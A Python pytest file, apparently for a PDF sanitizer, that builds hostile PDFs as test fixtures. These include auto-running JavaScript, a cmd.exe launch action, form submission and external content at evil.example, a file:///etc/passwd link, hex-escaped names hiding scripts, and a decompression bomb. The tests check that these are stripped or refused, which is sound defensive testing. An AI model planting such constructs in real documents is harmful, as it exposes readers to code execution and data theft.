"""U3 to U9 for PDF."""

import re
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Literal

import pikepdf
import pypdfium2
import pytest
from pikepdf import Array, Dictionary, Encryption, Name, ObjectStreamMode, String

from domicile.files.tests.inspected import Inspect
from domicile.files.tests.makers import (
    Paper,
    act,
    all_names,
    exif,
    jpeg,
    page,
    pdf_of,
    script,
)

Hostile = Callable[[Paper], object]

HOSTILE: dict[str, tuple[Hostile, str, str]] = {
    "a script when it opens": (
        lambda one: one.root.__setattr__("OpenAction", script()), "script", "/JavaScript"),
    "a script without a type": (
        lambda one: one.root.__setattr__("OpenAction", act("/JavaScript", JS=String("1"))),
        "script", "/JS"),
    "a script in the tree of names": (
        lambda one: one.root.__setattr__(
            "Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), script()])))),
        "script", "/JavaScript"),
    "a script on leaving a page": (
        lambda one: one.page.__setattr__("AA", Dictionary(C=script())), "script", "/AA"),
    "a script after a harmless action": (
        lambda one: one.annotate(Subtype=Name.Link, A=act("/Named", Next=script())),
        "script", "/JavaScript"),
    "a script third in a row": (
        lambda one: one.annotate(
            Subtype=Name.Link,
            A=act("/Named", Next=Array([act("/Named"), act("/Named", Next=script())]))),
        "script", "/JavaScript"),
    "a script in a list at opening": (
        lambda one: one.root.__setattr__("OpenAction", Array([script()])), "script", "/JavaScript"),
    "a script behind a link": (
        lambda one: one.annotate(
            Subtype=Name.Link, A=act("/URI", URI=String(" JavaScript:alert(1)"))),
        "script", "/A"),
    "a script in a form field": (
        lambda one: one.root.__setattr__("AcroForm", Dictionary(Fields=Array([one.annotate(
            Subtype=Name.Widget, FT=Name.Tx, T=String("a"), AA=Dictionary(K=script()))]))),
        "script", "/AA"),
    "a script in an outline": (
        lambda one: one.root.__setattr__("Outlines", Dictionary(
            First=one.made(Dictionary(Title=String("x"), A=script())))),
        "script", "/JavaScript"),
    "a script that is a stream": (
        lambda one: one.root.__setattr__("OpenAction", Dictionary(
            S=Name.JavaScript, JS=one.pdf.make_stream(b"app.alert(1)"))),
        "script", "/JS"),
    "an action as an unknown kind": (
        lambda one: one.annotate(Subtype=Name.Link, A=act("/Frobnicate")), "action", "/Frobnicate"),
    "a program to launch": (
        lambda one: one.annotate(Subtype=Name.Link, A=act("/Launch", F=String("cmd.exe"))),
        "action", "/Launch"),
    "a form that sends": (
        lambda one: one.annotate(
            Subtype=Name.Link, A=act("/SubmitForm", F=String("https://evil.example"))),
        "action", "/SubmitForm"),
    "data to import": (
        lambda one: one.annotate(Subtype=Name.Link, A=act("/ImportData", F=String("a.fdf"))),
        "action", "/ImportData"),
    "another file to go to": (
        lambda one: one.annotate(Subtype=Name.Link, A=act("/GoToR", F=String("b.pdf"), D=0)),
        "action", "/GoToR"),
    "an embedded file to go to": (
        lambda one: one.annotate(Subtype=Name.Link, A=act("/GoToE", D=0)), "action", "/GoToE"),
    "an address asked when it opens": (
        lambda one: one.root.__setattr__("OpenAction", act("/URI", URI=String("https://e.example"))),
        "action", "/OpenAction"),
    "an address asked when a page opens": (
        lambda one: one.page.__setattr__(
            "AA", Dictionary(O=act("/URI", URI=String("https://e.example")))),
        "action", "/AA"),
    "a link to this machine's files": (
        lambda one: one.annotate(Subtype=Name.Link, A=act("/URI", URI=String("file:///etc/passwd"))),
        "action", "/A"),
    "a film": (
        lambda one: one.annotate(Subtype=Name.Movie, Movie=Dictionary(F=String("a.avi"))),
        "media", "/Movie"),
    "a sound": (
        lambda one: one.annotate(Subtype=Name.Sound, Sound=one.pdf.make_stream(b"\0\0", R=8000)),
        "media", "/Sound"),
    "rich media": (
        lambda one: one.annotate(Subtype=Name.RichMedia, RichMediaContent=Dictionary()),
        "media", "/RichMedia"),
    "a model in three dimensions": (
        lambda one: one.annotate(
            Subtype=Name("/3D"), **{"3DD": one.pdf.make_stream(b"U3D\0", Subtype=Name.U3D)}),
        "media", "/3DD"),
    "a rendition": (
        lambda one: one.annotate(Subtype=Name.Screen, A=act("/Rendition", OP=0)),
        "media", "/Rendition"),
    "a tree of renditions": (
        lambda one: one.root.__setattr__(
            "Names", Dictionary(Renditions=Dictionary(Names=Array([])))),
        "media", "/Renditions"),
    "a file attached to the paper": (
        lambda one: one.pdf.attachments.__setitem__("a.txt", b"hello"),
        "attachment", "/EmbeddedFiles"),
    "a file attached to a page": (
        lambda one: one.annotate(Subtype=Name.FileAttachment, FS=Dictionary(
            Type=Name.Filespec, F=String("a"), EF=Dictionary(F=one.pdf.make_stream(b"hi")))),
        "attachment", "/EF"),
    "a file associated with the paper": (
        lambda one: one.root.__setattr__("AF", Array([Dictionary(
            Type=Name.Filespec, F=String("a"), EF=Dictionary(F=one.pdf.make_stream(b"hi")))])),
        "attachment", "/AF"),
    "a form with a program beside it": (
        lambda one: one.root.__setattr__("AcroForm", Dictionary(
            Fields=Array([one.annotate(Subtype=Name.Widget, FT=Name.Tx, T=String("a"))]),
            XFA=one.pdf.make_stream(b"<xdp/>"))),
        "form-script", "/XFA"),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
@pytest.mark.parametrize("packed", [False, True], ids=["plain", "in object streams"])
def test_u3_what_a_pdf_would_do_is_taken_out_of_the_copy(
    inspect: Inspect, what: str, *, packed: bool
) -> None:
    make_hostile, code, name = HOSTILE[what]
    paper = Paper()
    make_hostile(paper)
    mode = ObjectStreamMode.generate if packed else ObjectStreamMode.disable
    data = paper.written(object_stream_mode=mode)
    assert name in all_names(data)
    seen = inspect(data, "scan.pdf")
    assert (seen.outcome, code in seen.codes) == ("accept-after-warning", True)
    assert name not in all_names(seen.copy) - ({"/A"} if name != "/A" else set())


def test_u3_a_name_written_with_numbers_is_the_same_name(inspect: Inspect) -> None:
    paper = Paper()
    paper.root.OpenAction = script()
    data = paper.written(object_stream_mode=ObjectStreamMode.disable)
    hidden = data.replace(b"/JavaScript", b"/#4a#61vaScrip#74").replace(b"/JS", b"/#4aS")
    assert inspect(hidden).codes[0] == "script"


REFUSED: dict[str, tuple[Hostile, str]] = {
    "a portfolio": (lambda one: one.root.__setattr__("Collection", Dictionary()), "portfolio"),
    "a form that is only a program": (
        lambda one: one.root.__setattr__(
            "AcroForm", Dictionary(Fields=Array([]), XFA=one.pdf.make_stream(b"<xdp/>"))
        ),
        "live-form",
    ),
    "content kept outside": (
        lambda one: one.page.__setattr__(
            "Contents", one.pdf.make_stream(b"", F=String("https://evil.example/x"))
        ),
        "outside-content",
    ),
}


@pytest.mark.parametrize("what", REFUSED)
def test_u3_a_pdf_that_cannot_be_shown_by_itself_is_refused(inspect: Inspect, what: str) -> None:
    make_hostile, code = REFUSED[what]
    paper = Paper()
    make_hostile(paper)
    assert inspect(paper.written()).said == ("refuse", [code])


HARMLESS: dict[str, Hostile] = {
    "opens at a page": lambda one: one.root.__setattr__("OpenAction", Array([one.page, Name.Fit])),
    "opens at a page by action": lambda one: one.root.__setattr__(
        "OpenAction", act("/GoTo", D=Array([one.page, Name.Fit]))
    ),
    "a link to the web": lambda one: one.annotate(
        Subtype=Name.Link, A=act("/URI", URI=String("https://www.gov.hk/"))
    ),
    "a link to mail": lambda one: one.annotate(
        Subtype=Name.Link, A=act("/URI", URI=String("mailto:a@example.org"))
    ),
    "a plain form": lambda one: one.root.__setattr__(
        "AcroForm",
        Dictionary(
            Fields=Array(
                [one.annotate(Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String("Chan"))]
            )
        ),
    ),
    "a comment": lambda one: one.annotate(Subtype=Name.Text, Contents=String("JavaScript /JS")),
    "layers": lambda one: one.root.__setattr__(
        "OCProperties",
        Dictionary(
            OCGs=Array([one.made(Dictionary(Type=Name.OCG, Name=String("Layer")))]),
            D=Dictionary(Order=Array([])),
        ),
    ),
    "those words as text": lambda one: one.page.__setattr__(
        "Contents",
        Array(
            [
                one.page.Contents,
                one.pdf.make_stream(b"BT (/JavaScript /Launch /EmbeddedFile app.alert) Tj ET"),
            ]
        ),
    ),
    "a tagged paper": lambda one: one.root.__setattr__(
        "StructTreeRoot",
        Dictionary(K=one.made(Dictionary(S=Name.Sound, A=Dictionary(O=Name.Layout, S=1)))),
    ),
}


@pytest.mark.parametrize("what", HARMLESS)
def test_u3_what_every_paper_may_have_is_taken_without_a_word(inspect: Inspect, what: str) -> None:
    paper = Paper(2)
    HARMLESS[what](paper)
    seen = inspect(paper.written(), "scan.pdf")
    assert (seen.said, seen.verdict.pages) == (("accept", []), 2)


def test_a_signature_is_kept_with_the_original_and_said_so(inspect: Inspect) -> None:
    paper = Paper()
    field = paper.annotate(
        Subtype=Name.Widget,
        FT=Name.Sig,
        T=String("s"),
        V=Dictionary(Type=Name.Sig, Contents=String("x" * 40), Filter=Name("/Adobe.PPKLite")),
    )
    paper.root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
    seen = inspect(paper.written())
    assert seen.said == ("accept", ["signed"])
    assert "/SigFlags" not in all_names(seen.copy)


@pytest.mark.parametrize("strength", [2, 3, 4, 6])
def test_u3_a_pdf_locked_against_changes_gives_an_open_copy(
    inspect: Inspect, strength: Literal[2, 3, 4, 6]
) -> None:
    locked = Paper().written(
        encryption=Encryption(
            owner="o", user="", R=strength, aes=strength > 3, metadata=strength > 3
        )
    )
    seen = inspect(locked)
    assert seen.said == ("accept-after-warning", ["locked"])
    with pikepdf.open(BytesIO(seen.copy)) as copy:
        assert (copy.is_encrypted, len(copy.pages)) == (False, 1)


def test_u3_a_pdf_with_a_password_is_refused(inspect: Inspect) -> None:
    locked = Paper().written(encryption=Encryption(owner="o", user="u"))
    assert inspect(locked).said == ("refuse", ["password"])


def test_u4_a_broken_table_is_repaired_with_a_warning(inspect: Inspect) -> None:
    data = Paper().written(object_stream_mode=ObjectStreamMode.disable)
    at = data.rindex(b"startxref")
    seen = inspect(data[:at] + b"startxref\n7\n%%EOF\n")
    assert (seen.said, seen.verdict.pages) == (("accept-after-warning", ["repaired"]), 1)


def test_u4_half_a_pdf_is_not_taken_in_silence(inspect: Inspect) -> None:
    data = pdf_of(page(), page(), page())
    assert inspect(data[: len(data) // 2]).outcome != "accept"


def test_u4_a_damaged_picture_inside_is_a_warning_with_its_page(inspect: Inspect) -> None:
    paper = Paper(2)
    second = paper.pdf.pages[1].obj
    image = next(iter(dict(second.Resources.XObject.items()).values()))
    raw = image.read_raw_bytes()
    image.write(raw[: len(raw) // 2], filter=Name.DCTDecode)
    seen = inspect(paper.written())
    assert seen.said == ("accept-after-warning", ["damaged-picture"])
    assert seen.params("damaged-picture") == {"page": 2}


def test_u4_a_pdf_of_garbage_is_refused(inspect: Inspect) -> None:
    assert inspect(b"%PDF-1.7\n" + bytes(range(256)) * 20).said[0] == "refuse"


def test_u5_a_picture_inside_of_more_than_180_million_pixels_is_refused(inspect: Inspect) -> None:
    paper = Paper()
    paper.picture(20_000, 20_000, zlib.compress(b"\0"), Filter=Name.FlateDecode)
    seen = inspect(paper.written())
    assert seen.params("too-many-pixels") == {"page": 1, "megapixels": 400, "most": 180}


def test_u5_a_jpeg_inside_is_measured_by_its_own_header(inspect: Inspect) -> None:
    raw = bytearray(jpeg(page("L")))
    at = raw.index(b"\xff\xc0")
    raw[at + 5 : at + 9] = (20_000).to_bytes(2, "big") * 2
    paper = Paper()
    paper.picture(10, 10, bytes(raw), Filter=Name.DCTDecode)
    assert inspect(paper.written()).codes == ["too-many-pixels"]


def test_u5_a_jpeg_2000_inside_is_measured_by_its_own_header(inspect: Inspect) -> None:
    sides = b"".join(one.to_bytes(4, "big") for one in (20_000, 20_000, 0, 0))
    paper = Paper()
    paper.picture(10, 10, b"\xff\x4f\xff\x51\0\x29\0\0" + sides, Filter=Name.JPXDecode)
    assert inspect(paper.written()).codes == ["too-many-pixels"]


@pytest.mark.parametrize("packed", [False, True])
def test_u5_a_picture_within_the_drawing_is_measured(inspect: Inspect, *, packed: bool) -> None:
    drawing = b"q BI /W 20000 /H 20000 /BPC 8 /CS /G ID \0\0\0\0 EI Q"
    paper = Paper()
    paper.page.Contents = paper.pdf.make_stream(
        zlib.compress(drawing) if packed else drawing,
        **({"Filter": Name.FlateDecode} if packed else {}),
    )
    assert inspect(paper.written(compress_streams=False)).codes == ["too-many-pixels"]


def test_u5_a_bomb_of_drawing_is_refused(inspect: Inspect) -> None:
    paper = Paper()
    bomb = zlib.compress(b"0 0 m\n" * 40_000_000, 1)
    paper.page.Contents = paper.pdf.make_stream(bomb, Filter=Name.FlateDecode)
    assert inspect(paper.written()).said == ("refuse", ["too-much-work"])


def test_u5_a_huge_page_is_drawn_small(inspect: Inspect) -> None:
    paper = Paper()
    paper.page.MediaBox = Array([0, 0, 200_000, 200_000])
    assert inspect(paper.written()).outcome in {"accept", "accept-after-warning"}


def test_u6_500_pages_are_taken_and_501_are_refused(inspect: Inspect) -> None:
    paper = Paper()
    for _ in range(499):
        paper.pdf.pages.append(paper.pdf.pages[0])
    assert inspect(paper.written()).verdict.pages == 500
    paper.pdf.pages.append(paper.pdf.pages[0])
    assert inspect(paper.written()).said == ("refuse", ["too-many-pages"])


def test_u6_a_pdf_without_pages_is_refused(inspect: Inspect) -> None:
    target = BytesIO()
    pikepdf.Pdf.new().save(target)
    assert inspect(target.getvalue()).said == ("refuse", ["no-pages"])


def test_u6_pages_that_run_in_a_circle_end(inspect: Inspect) -> None:
    paper = Paper()
    data = paper.written(object_stream_mode=ObjectStreamMode.disable)
    with pikepdf.open(BytesIO(data)) as opened:
        number = opened.Root.Pages.objgen[0]
    circle = data.replace(b"/Kids [", f"/Kids [ {number} 0 R ".encode())
    assert inspect(circle).outcome in {"refuse", "accept-after-warning"}


def test_u6_a_page_that_belongs_nowhere_is_not_dropped_in_silence(inspect: Inspect) -> None:
    paper = Paper(2)
    lost = paper.made(Dictionary(Type=Name.Page, MediaBox=Array([0, 0, 600, 800])))
    paper.root.Lost = lost
    data = paper.written(object_stream_mode=ObjectStreamMode.disable)
    orphaned = re.sub(rb"/Lost \d+ 0 R", lambda found: b" " * len(found[0]), data)
    assert inspect(orphaned).said == ("accept-after-warning", ["lost-pages"])


def test_u7_a_page_is_drawn_as_it_is_turned(inspect: Inspect) -> None:
    paper = Paper()
    paper.pdf.pages[0].rotate(90, relative=False)
    seen = inspect(paper.written())
    assert (seen.verdict.width, seen.verdict.height) == (800, 600)
    assert inspect(paper.written(), turn=90).verdict.width == 600


def test_u7_the_copy_says_neither_who_nor_where(inspect: Inspect) -> None:
    paper = Paper()
    paper.pdf.docinfo["/Author"] = "AUTHOR-OF-THE-TEST"
    paper.root.Metadata = paper.pdf.make_stream(b"AUTHOR-OF-THE-TEST")
    paper.picture(600, 800, jpeg(page("L"), exif=exif(place=True)), Filter=Name.DCTDecode)
    data = paper.written()
    seen = inspect(data)
    assert b"CAMERA-OF-THE-TEST" in data
    assert seen.said == ("accept", [])
    assert not {"/Metadata", "/Info", "/Author"} & all_names(seen.copy)
    assert b"CAMERA-OF-THE-TEST" not in seen.copy
    assert len(pypdfium2.PdfDocument(seen.copy)) == 1


def test_u8_older_versions_of_a_paper_are_not_in_the_copy(inspect: Inspect) -> None:
    paper = Paper()
    paper.root.Secret = String("VERSION-BEFORE")
    before = paper.written(object_stream_mode=ObjectStreamMode.disable)
    with pikepdf.open(BytesIO(before)) as opened:
        number, table = opened.Root.objgen[0], before.rindex(b"startxref")
        size = len(opened.objects) + 1
    at = before[table:].split()[1].decode()
    begin = before.index(f"{number} 0 obj".encode())
    root = before[begin : before.index(b"endobj", begin)].replace(b"(VERSION-BEFORE)", b"null")
    added = root + b"endobj\n"
    update = (
        f"xref\n{number} 1\n{len(before):010} 00000 n \n"
        f"trailer\n<</Size {size} /Root {number} 0 R /Prev {at}>>\n"
        f"startxref\n{len(before) + len(added)}\n%%EOF\n"
    )
    data = before + added + update.encode()
    seen = inspect(data)
    assert (b"VERSION-BEFORE" in data, seen.outcome) == (True, "accept")
    assert b"VERSION-BEFORE" not in seen.copy


def test_u9_empty_pages_of_a_pdf_are_named(inspect: Inspect) -> None:
    paper = Paper(3)
    for number in (0, 2):
        paper.pdf.pages[number].obj.Contents = paper.pdf.make_stream(b"")
    seen = inspect(paper.written())
    assert seen.said == ("accept-after-warning", ["blank"])
    assert seen.params("blank") == {"pages": [1, 3]}


def test_u4_a_packed_picture_inside_is_unpacked_whole(inspect: Inspect) -> None:
    whole = zlib.compress(bytes(range(200)) * 3_000)
    for data, said in (
        (whole, ("accept", [])),
        (whole[: len(whole) // 2], ("accept-after-warning", ["damaged-picture"])),
        (b"not packed at all", ("accept-after-warning", ["damaged-picture"])),
    ):
        paper = Paper()
        paper.picture(600, 1_000, data, Filter=Name.FlateDecode)
        assert inspect(paper.written()).said == said


def test_u4_damaged_drawing_instructions_are_a_warning(inspect: Inspect) -> None:
    paper = Paper()
    whole = zlib.compress(b"q Q " * 5_000)
    paper.page.Contents = Array(
        [paper.page.Contents, paper.pdf.make_stream(whole[:-30], Filter=Name.FlateDecode)]
    )
    assert "repaired" in inspect(paper.written()).codes


def test_u8_a_little_before_the_beginning_is_a_warning(inspect: Inspect) -> None:
    seen = inspect(b"\x1b%-12345X@PJL\r\n" + Paper().written())
    assert seen.said == ("accept-after-warning", ["repaired"])


def test_words_that_look_like_a_picture_within_the_drawing_are_words(inspect: Inspect) -> None:
    paper = Paper()
    paper.page.Contents = Array(
        [paper.page.Contents, paper.pdf.make_stream(b"BT ( BI /W 99999 ID x EI ) Tj ET")]
    )
    assert inspect(paper.written()).said == ("accept", [])
